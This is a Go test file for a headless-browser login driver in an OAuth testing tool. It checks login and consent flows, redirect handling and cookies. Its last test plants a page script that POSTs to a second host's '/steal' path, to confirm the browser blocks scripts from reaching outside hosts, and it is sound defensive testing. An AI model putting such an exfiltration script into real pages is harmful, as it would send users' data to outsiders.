package login_test

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/authassay/authassay/scenarios"
	"github.com/authassay/authassay/scenarios/login"
	"github.com/authassay/authassay/scenarios/wire"
)

// browser returns a browser for the steps. Where none is installed the test is
// skipped, aloud.
func browser(t *testing.T, f login.Form) *login.Browser {
	t.Helper()
	path, err := login.FindBrowser(exec.LookPath)
	if err != nil {
		t.Skipf("NOT TESTED: %v", err)
	}
	b := &login.Browser{Form: f, Path: path, Unconfined: os.Geteuid() == 0, Settle: 600 * time.Millisecond}
	t.Cleanup(b.Close)
	return b
}

func browse(t *testing.T, b *login.Browser, base string, how scenarios.Conduct) (*scenarios.Landing, error) {
	t.Helper()
	w := wire.New(wire.Options{})
	t.Cleanup(w.Close)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	l, err := b.Visit(ctx, w.Send, authorize(base), stop, how)
	if l == nil {
		l = &scenarios.Landing{}
	}
	return l, err
}

// The designs that need no script are gone through in the browser as they are
// without one.
func TestBrowserGoesThroughPlainPages(t *testing.T) {
	in := map[string]string{"password": password}
	for name, c := range map[string]struct {
		serve func(*testing.T) string
		form  *login.Form
	}{
		"two pages": {twoPages, twoPageForm()},
		"hopping":   {hopping, &login.Form{Steps: []login.Step{{When: "password", Fill: in}}}},
		"one page": {onePage, &login.Form{Steps: []login.Step{
			{When: "password", Fill: map[string]string{"user": "ada", "password": password}, Submit: "Allow"}}}},
	} {
		t.Run(name, func(t *testing.T) {
			l, err := browse(t, browser(t, *c.form), c.serve(t), scenarios.Consents)
			if err != nil || l.Code() != "c0de" || l.Answer.Get("state") == "" || !l.Finished {
				t.Fatalf("landed at %v with %v, finished %t, %v", l.URL, l.Answer, l.Finished, err)
			}
			if first := l.Pages[0].Request; first.Method != "GET" || first.Query.Encode() != "client_id=abc" {
				t.Errorf("the first request was %s %s", first.Method, first.Address())
			}
		})
	}
}

func TestBrowserUnticksABox(t *testing.T) {
	s, base := newSite(t)
	s.HandleFunc("GET /authorize", func(w http.ResponseWriter, r *http.Request) {
		page(w, `<form action="/consent"><input type="checkbox" name="confirm" value="yes" checked><button>Go on</button></form>`)
	})
	s.HandleFunc("GET /consent", func(w http.ResponseWriter, r *http.Request) {
		finish(w, r, url.Values{"code": {"c" + r.FormValue("confirm")}})
	})
	f := login.Form{Steps: []login.Step{{When: "confirm", Untick: []string{"confirm"}}}}
	if l, err := browse(t, browser(t, f), base, scenarios.Consents); err != nil || l.Code() != "c" {
		t.Errorf("landed with %v, %v", l.Answer, err)
	}
}

func TestBrowserConducts(t *testing.T) {
	base := twoPages(t)
	b := browser(t, *twoPageForm())
	for how, want := range map[scenarios.Conduct]struct {
		answer url.Values
		last   int
	}{
		scenarios.Consents: {granted, 302},
		scenarios.Denies:   {url.Values{"error": {"access_denied"}}, 302},
		scenarios.AsMember: {url.Values{"error": {"access_denied"}}, 302},
		scenarios.Mistypes: {nil, 401},
		scenarios.Waits:    {nil, 200},
		scenarios.Forges:   {nil, 403},
	} {
		t.Run(string(how), func(t *testing.T) {
			l, err := browse(t, b, base, how)
			if err != nil || l.Answer.Encode() != want.answer.Encode() || (l.URL == nil) != (want.answer == nil) {
				t.Fatalf("landed at %v with %v: %v", l.URL, l.Answer, err)
			}
			if l.Last().Status != want.last {
				t.Errorf("%d pages, the last %d", len(l.Pages), l.Last().Status)
			}
		})
	}
}

func TestBrowserEndsLikeForm(t *testing.T) {
	b := browser(t, login.Form{Stops: []string{"myapp://done"}})
	for to, want := range map[string]error{
		stop + "?code=c0de": nil, stop + "#code=c0de": nil, "myapp://done?code=c0de": nil,
		"/authorize": login.ErrLoop, "http://127.0.0.1:1/": login.ErrRefusedHost, "http://[bad": login.ErrBroken,
	} {
		l, err := browse(t, b, redirecting(t, to), scenarios.Consents)
		if !errors.Is(err, want) || want == nil && l.Code() != "c0de" {
			t.Errorf("%s: landed at %v, %v", to, l.URL, err)
		}
	}
	dead := redirecting(t, "http://HOST/fails")
	if l, err := browse(t, b, dead, scenarios.Consents); err != nil || l.Last().Status != 404 {
		t.Errorf("an error page: %v", err)
	}
}

func TestBrowserHasTheCookiesOfPreparingRequests(t *testing.T) {
	base := scripted(t)
	b := browser(t, login.Form{Steps: []login.Step{
		{Request: &login.RawRequest{Method: "PUT", URL: base + "/api/session", Headers: map[string]string{"X-App": "1"},
			JSON: map[string]any{"user": "ada", "password": password}}},
		{When: "Yes, go on", Submit: "Yes, go on"}}})
	if l, err := browse(t, b, base, scenarios.Consents); err != nil || l.Code() != "c0de" {
		t.Errorf("landed at %v, %v", l.URL, err)
	}
}

func TestBrowserStartsAgainAfterItsEnd(t *testing.T) {
	b := browser(t, login.Form{})
	base := redirecting(t, stop+"?code=c0de")
	for range 2 {
		if l, err := browse(t, b, base, scenarios.Consents); err != nil || l.Code() != "c0de" {
			t.Errorf("landed at %v, %v", l.URL, err)
		}
		b.Close()
	}
}

func TestNoBrowser(t *testing.T) {
	path, err := login.FindBrowser(func(name string) (string, error) {
		if name == "chromium" {
			return "/opt/chromium", nil
		}
		return "", exec.ErrNotFound
	})
	if path != "/opt/chromium" || err != nil {
		t.Errorf("found %q, %v", path, err)
	}
	_, err = login.FindBrowser(func(string) (string, error) { return "", exec.ErrNotFound })
	if !errors.Is(err, login.ErrNoBrowser) || !strings.Contains(err.Error(), "chromium-headless-shell") {
		t.Errorf("said %v", err)
	}
	for _, path := range []string{"", "/bin/false"} {
		b := &login.Browser{Path: path}
		if _, err := browse(t, b, "http://127.0.0.1:1", scenarios.Consents); !errors.Is(err, login.ErrNoBrowser) {
			t.Errorf("%q: %v", path, err)
		}
	}
}

// A host that the target file does not name is not reached by scripts either.
func TestBrowserScriptsReachNoOtherHost(t *testing.T) {
	reached := false
	other, elsewhere := newSite(t)
	other.HandleFunc("/", func(http.ResponseWriter, *http.Request) { reached = true })
	s, base := newSite(t)
	s.HandleFunc("GET /authorize", func(w http.ResponseWriter, _ *http.Request) {
		page(w, `<body><script>
			fetch("`+elsewhere+`/steal", {method: "POST", mode: "no-cors", body: "x"}).catch(() => 0)
			.then(() => fetch("`+stop+`?probe")).catch(() => location.href = "`+stop+`?code=c0de&state=1")</script>`)
	})
	s.HandleFunc("GET /favicon.ico", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "") })
	l, err := browse(t, browser(t, login.Form{}), base, scenarios.Consents)
	if err != nil || l.Code() != "c0de" || reached {
		t.Errorf("landed at %v, the other host reached: %t, %v", l.URL, reached, err)
	}
}
